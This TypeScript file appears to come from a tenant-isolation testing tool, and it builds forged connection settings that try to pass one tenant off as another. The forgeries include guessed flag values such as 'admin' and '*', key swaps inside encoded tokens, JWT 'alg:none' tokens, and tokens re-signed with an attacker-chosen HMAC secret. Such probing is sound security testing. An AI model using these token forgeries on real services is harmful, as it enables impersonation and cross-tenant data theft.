import { createHmac } from "node:crypto"
import { holdsKey, withKey } from "../../catalog/key-text.js"
import type { Pair } from "../../probe/pair.js"
import { settingNames } from "../../probe/setting-names.js"
import type { Scene } from "../../run/check.js"
import type { CheckRecord } from "../../run/check-record.js"

/** Settings with which an attacker could be taken for the other tenant. */
export interface Forgery {
  readonly settings: Readonly<Record<string, string>>
  /** What is believed if it works; empty for a plain setting with another's key in it. */
  readonly trick: string
}

/** A context that is a signed text in a setting: whatever gets around its signature is a leak. */
export const isSigned = ({ attacker, victim }: Pair): boolean =>
  Object.values(attacker.tenant.connect.settings).some(
    (value) => withTokenKey(value, attacker.keys, victim.keys[0] ?? "") !== undefined,
  )

/** Flags and keys for settings that the target does not name, then the target's own with the victim's key. */
export async function forgeriesOf(scene: Scene, record: CheckRecord, { attacker, victim }: Pair): Promise<Forgery[]> {
  const [key] = victim.keys
  if (key === undefined) return []
  const { settings } = attacker.tenant.connect
  const unnamed = (await settingNames(scene, record)).filter((name) => !Object.hasOwn(settings, name))
  const flags = unnamed.flatMap((name) =>
    [key, "on", "true", "1", "admin", "*"].map((value): Forgery => ({ settings: { [name]: value }, trick: "" })),
  )
  const own = Object.entries(settings).flatMap(([name, value]): Forgery[] => {
    const token = withTokenKey(value, attacker.keys, key)
    if (token !== undefined) return tokenForgeries(name, token, unnamed, key)
    return holdsKey(value, attacker.keys)
      ? [{ settings: { [name]: withKey(value, attacker.keys, key) }, trick: "" }]
      : []
  })
  return [...flags, ...own]
}

function tokenForgeries(name: string, token: string, unnamed: readonly string[], key: string): Forgery[] {
  const [head = "", body = ""] = token.split(".")
  const none = Buffer.from('{"alg":"none","typ":"JWT"}').toString("base64url")
  const isJwt = token.split(".").length === 3
  return [
    { settings: { [name]: token }, trick: "another tenant's key under the old signature: nothing verifies it" },
    ...(isJwt ? [{ settings: { [name]: `${none}.${body}.` }, trick: "a token that says that it is not signed" }] : []),
    ...unnamed.flatMap((other): Forgery[] => [
      // A fall-back for callers without a token.
      { settings: { [name]: "", [other]: key }, trick: `${other} where there is no token` },
      ...signedAnew(token, isJwt ? `${head}.${body}` : head).map((forged) => ({
        settings: { [other]: secret, [name]: forged },
        trick: `a token signed with a secret of the attacker's own, put into ${other}`,
      })),
    ]),
  ]
}

const secret = "wk-secret-of-the-attacker-0123456789"

/** HS256 as in a JWT, and the same signature in hexadecimal, over what stands before the last part. */
function signedAnew(token: string, signed: string): string[] {
  if (token.split(".").length > 3) return []
  const mac = createHmac("sha256", secret).update(signed)
  const digest = mac.digest()
  return [`${signed}.${digest.toString("base64url")}`, `${signed}.${digest.toString("hex")}`]
}

/** A token of several parts, one of which is encoded text with the key: that part changed, the others kept. */
function withTokenKey(value: string, own: readonly string[], key: string): string | undefined {
  const parts = value.split(".")
  if (parts.length < 2) return undefined
  const changed = parts.map((part) => {
    const text = Buffer.from(part, "base64url").toString("utf8")
    const isText = /^[\x20-\x7e]{3,}$/.test(text)
    return isText && holdsKey(text, own) ? Buffer.from(withKey(text, own, key)).toString("base64url") : part
  })
  return changed.join(".") === value ? undefined : changed.join(".")
}
